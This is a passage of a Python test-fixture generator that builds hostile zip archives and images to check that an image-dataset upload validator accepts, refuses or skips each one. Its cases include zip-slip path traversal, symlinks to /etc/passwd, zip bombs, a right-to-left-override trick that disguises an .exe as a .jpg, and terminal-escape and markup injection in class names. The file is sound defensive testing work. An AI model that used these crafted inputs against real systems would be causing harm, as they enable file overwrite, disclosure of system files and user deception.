    # Shown as "photoexe.jpg" by anything that obeys the right-to-left override.
    write_zip(path, with_normal(("rose/photo\u202egpj.exe", b"MZ\x90\x00" + bytes(200))))


def zip_in_zip(path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        for name, data in normal_entries(start=40):
            archive.writestr(name, data)
    write_zip(path, with_normal(("daisy/more.zip", inner.getvalue())))


def zip_four_png16(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in with_normal():
            archive.writestr(name, data)
        for index in range(4):
            archive.writestr(f"{NORMAL_CLASSES[index % 2]}/big16_{index}.png", png16_under_pillow_limit(shade=index * 7))


def zip_forty_jpeg2000(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in with_normal():
            archive.writestr(name, data)
        for index in range(40):
            archive.writestr(f"{NORMAL_CLASSES[index % 2]}/j2k_{index:02d}.png", jpeg2000_huge(index))


def zip_mixed(path: Path) -> None:
    """Every image case beside normal photos, alternating between the two class folders."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in with_normal():
            archive.writestr(name, data)
        for name, case in mixed_members():
            archive.writestr(name, case.build(path.parent).read_bytes())


def mixed_members() -> list[tuple[str, Case]]:
    return [(f"{NORMAL_CLASSES[i % 2]}/mixed_{image_file_name(case)}", case) for i, case in enumerate(IMAGE_CASES)]


def zip_utf8_without_flag(path: Path) -> None:
    """Names in UTF-8 without the UTF-8 flag, as macOS and Linux zip tools write them."""
    real = "été".encode()
    placeholder = b"EEtEE"
    assert len(real) == len(placeholder)
    entries = [(f"EEtEE/{i:02d}.jpg", photo_bytes("daisy", i)) for i in range(PER_CLASS)]
    entries += [(f"rose/{i:02d}.jpg", photo_bytes("rose", i)) for i in range(PER_CLASS)]
    write_zip(path, entries)
    data = path.read_bytes()
    for i in range(PER_CLASS):
        name = f"EEtEE/{i:02d}.jpg".encode()
        data = patch_headers(data, name, new_name=name.replace(placeholder, real))
    path.write_bytes(data)


def zip_normal(path: Path) -> None:
    write_zip(path, with_normal())


NFC = unicodedata.normalize("NFC", "café")
NFD = unicodedata.normalize("NFD", "café")

ZIP_SPECS = [
    # name, expected, builder, about, options
    ("normal_dataset", ACCEPTED, zip_normal, "two classes of 6 real photos (the control)", {"classes": 2}),
    ("same_zip_twice", ACCEPTED, zip_normal, "the same zip uploaded under two names", {"classes": 2, "twice": True}),
    ("zip_slip", REFUSED, zip_slip, "entry `daisy/../../../escaped-slip.jpg`", {}),
    ("absolute_path", REFUSED, zip_absolute, "entry with an absolute path", {}),
    ("drive_letter", REFUSED, zip_drive_letter, "entries `C:\\Users\\...` and `D:/...`", {}),
    ("backslash_escape", REFUSED, zip_backslash, "entry `daisy\\..\\..\\..\\escaped.jpg`", {}),
    ("symlink_entry", REFUSED, zip_symlink, "symbolic links to /etc/passwd and ../../..", {}),
    ("fifo_entry", REFUSED, zip_fifo, "a named pipe (FIFO) entry", {}),
    ("encrypted_flag", REFUSED, zip_encrypted, "entry with the encryption flag", {}),
    ("understated_size", REFUSED, zip_understated, "3 MiB entry whose header says 1,000 bytes", {}),
    ("overstated_size", REFUSED, zip_overstated, "header says 5,000 bytes more than the data", {}),
    ("declares_300mb", REFUSED, zip_declares_huge, "header declares a 300 MiB file", {}),
    ("bad_member_crc", REFUSED, zip_bad_crc, "entry whose CRC-32 is wrong", {}),
    ("ratio_bomb", REFUSED, zip_ratio_bomb, "one 200 MiB file of zeros (~200 KB packed)", {}),
    ("total_ratio_bomb", REFUSED, zip_total_ratio_bomb, "200 files of 1 MiB - 1 byte of zeros", {}),
    ("too_many_members", REFUSED, zip_too_many_members, "20,013 entries", {}),
    ("duplicate_names", REFUSED, zip_duplicate_names, "`daisy/00.jpg` twice, different bytes", {}),
    ("deep_folders", REFUSED, zip_deep, "a file 1,000 folders deep", {}),
    ("file_and_folder", REFUSED, zip_file_and_folder, "`daisy/both.jpg` is a file and a folder", {}),
    ("long_folder_name", REFUSED, zip_long_folder_name, "a 300-character folder name", {}),
    ("long_file_name", REFUSED, zip_long_file_name, "a 300-character file name", {}),
    ("long_total_path", REFUSED, zip_long_path, "a 620-character path of 100-character names", {}),
    ("nul_in_name", REFUSED, zip_nul_name, "a NUL byte in an entry name", {}),
    ("unsupported_method", REFUSED, zip_unsupported_method, "compression method 9 (Deflate64)", {}),
    ("empty_zip", REFUSED, zip_empty, "a zip with no entries", {}),
    ("not_a_zip", REFUSED, zip_not_a_zip, "plain text named .zip", {}),
    ("truncated_zip", REFUSED, zip_truncated, "a zip cut in half", {}),
    ("only_text_files", REFUSED, zip_only_text, "text, CSV and Markdown files only", {}),
    ("one_class", REFUSED, zip_one_class, "a single class folder", {}),
    ("loose_images_only", REFUSED, zip_loose_images, "8 images, no class folders", {}),
    ("stray_image", SKIPPED, zip_stray_image, "an image beside the class folders", {"skip": ("stray.jpg",)}),
    ("nested_only", REFUSED, zip_nested_only, "class folders holding only folders", {}),
    ("validation_without_train", REFUSED, zip_validation_only, "`validation/` but no `train/`", {}),
    ("class_with_one_image", REFUSED, zip_one_image_class, "`rose` holds one image", {}),
    ("junk_beside_classes", SKIPPED, zip_junk, "__MACOSX, .DS_Store, Thumbs.db, desktop.ini",
     {"skip": ("__MACOSX/daisy/._00.jpg", "daisy/.DS_Store", "rose/Thumbs.db", "rose/desktop.ini"), "classes": 2}),
    ("markdown_link_class", ACCEPTED, named_classes(MARKDOWN_LINK, "rose"), f"class `{MARKDOWN_LINK}`", {"classes": 2}),
    ("markdown_image_class", ACCEPTED, named_classes(MARKDOWN_IMAGE, "rose"), f"class `{MARKDOWN_IMAGE}`", {"classes": 2}),
    ("html_class", ACCEPTED, named_classes(HTML_NAME, "rose"), f"class `{HTML_NAME}`", {"classes": 2}),
    ("markup_classes_one_folder", ACCEPTED,
     named_classes(MARKDOWN_LINK.translate(ONE_FOLDER), MARKDOWN_IMAGE.translate(ONE_FOLDER), HTML_NAME.translate(ONE_FOLDER)),
     "the three names above with U+2215 for `/`, one folder each", {"classes": 3}),
    ("terminal_control_class", ACCEPTED, named_classes("\x1b[31mred\x1b[0m", "\x1b]0;pwned\x07title"),
     "classes with ANSI colour and window-title escapes", {"classes": 2}),
    ("cafe_nfc_and_nfd", ACCEPTED, named_classes(NFC, NFD, "rose"), "`café` in NFC and NFD: one class", {"classes": 2}),
    ("cat_and_Cat", ACCEPTED, named_classes("Cat", "cat"), "`Cat` and `cat`", {"classes": 2}),
    ("rtl_class_name", ACCEPTED, named_classes("\u202eysiad", "rose"), "class with a right-to-left override", {"classes": 2}),
    ("rtl_exe_as_jpg", SKIPPED, zip_rtl_exe, "`photo<RLO>gpj.exe`, shown as photoexe.jpg",
     {"skip": ("rose/photo\u202egpj.exe",), "classes": 2}),
    ("utf8_without_flag", ACCEPTED, zip_utf8_without_flag, "UTF-8 names without the UTF-8 flag", {"classes": 2}),
    ("zip_in_zip", SKIPPED, zip_in_zip, "a zip inside the zip", {"skip": ("daisy/more.zip",), "classes": 2}),
    ("four_png16_under_limit", SKIPPED, zip_four_png16, "four 9,400 x 9,400 16-bit PNGs (~800 KB)",
     {"skip": tuple(f"{NORMAL_CLASSES[i % 2]}/big16_{i}.png" for i in range(4)), "classes": 2}),
    ("forty_jpeg2000", SKIPPED, zip_forty_jpeg2000, "forty 1.4 KB 9,400 x 9,400 JPEG 2000 files named .png",
     {"skip": tuple(f"{NORMAL_CLASSES[i % 2]}/j2k_{i:02d}.png" for i in range(40)), "classes": 2}),
    ("hostile_images_mixed", SKIPPED, zip_mixed, "every image case beside normal photos",
     {"skip": tuple(name for name, case in mixed_members() if case.expected == SKIPPED),
      "keep": tuple(name for name, case in mixed_members() if case.expected == ACCEPTED), "classes": 2}),
]

ZIP_CASES = [
    Case(name, "zip", _zip(f"{name}.zip", make), expected, about, **options)
    for name, expected, make, about, options in ZIP_SPECS
]

CASES = ZIP_CASES + IMAGE_CASES


def by_name(names: Iterable[str] | None = None) -> list[Case]:
    """The cases with these names (all when None), in library order.

    Raises:
        SystemExit: an unknown name.
    """
    if names is None:
        return list(CASES)
    wanted = set(names)
    unknown = wanted - {case.name for case in CASES}
    if unknown:
        sys.exit(f"Unknown case(s): {', '.join(sorted(unknown))}. Known: {', '.join(case.name for case in CASES)}")
    return [case for case in CASES if case.name in wanted]


def reference_zip(folder: Path, per_class: int = 8) -> Path:
    """A normal two-class zip of real photos (not used by the cases) to train the reference run on."""
    return write_zip(Path(folder) / "reference.zip", normal_entries(per_class, start=60))


def build(case: Case, folder: Path) -> Path:
    """Writes a case's file (for an image case: the image itself) into a folder of its own; returns the file."""
    target = Path(folder) / case.name
    target.mkdir(parents=True, exist_ok=True)
    return case.build(target)


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--folder", help="where to write the cases (default: a new temporary folder)")
    parser.add_argument("--only", nargs="+", metavar="NAME", help="build only these cases")
    parser.add_argument("--smoke", action="store_true", help="build a few small cases only")
    args = parser.parse_args(argv)
    names = args.only
    if args.smoke and not names:
        names = ["zip_slip", "encrypted_flag", "png_bad_idat_crc", "bmp_os2_header", "gif_huge_header"]
    folder = Path(args.folder) if args.folder else Path(tempfile.mkdtemp(prefix="tl-hostile-cases-"))
    cases = by_name(names)
    for case in cases:
        path = build(case, folder)
        print(f"{case.name:28} {case.kind:5} {case.expected:12} {path.stat().st_size:>11,} B  {case.about}")
    zips = sum(case.kind == "zip" for case in cases)
    print(f"built {zips} zips, {len(cases) - zips} images into {folder}")
    if args.smoke and not args.folder:
        shutil.rmtree(folder, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
